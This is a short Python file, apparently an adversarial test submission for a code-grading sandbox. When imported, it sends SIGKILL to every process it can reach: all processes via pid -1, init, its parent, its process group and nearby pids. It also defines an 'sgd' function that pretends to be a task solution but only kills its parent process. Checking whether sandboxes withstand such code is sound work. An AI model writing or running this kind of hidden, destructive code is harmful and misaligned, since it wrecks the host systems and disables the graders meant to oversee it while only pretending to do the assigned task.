"""Kills every process it can name: all, its group, its parents, its neighbours. None is hurt: no points."""

import contextlib
import os
import signal

for pid in [-1, 0, 1, 2, 3, os.getppid(), -os.getpgid(0), *range(os.getpid() - 50, os.getpid())]:
    with contextlib.suppress(OSError):
        os.kill(pid, signal.SIGKILL)
with contextlib.suppress(OSError):
    os.killpg(os.getpgid(0), signal.SIGKILL)


def sgd(params, lr, batch_size):
    os.kill(os.getppid(), signal.SIGKILL)
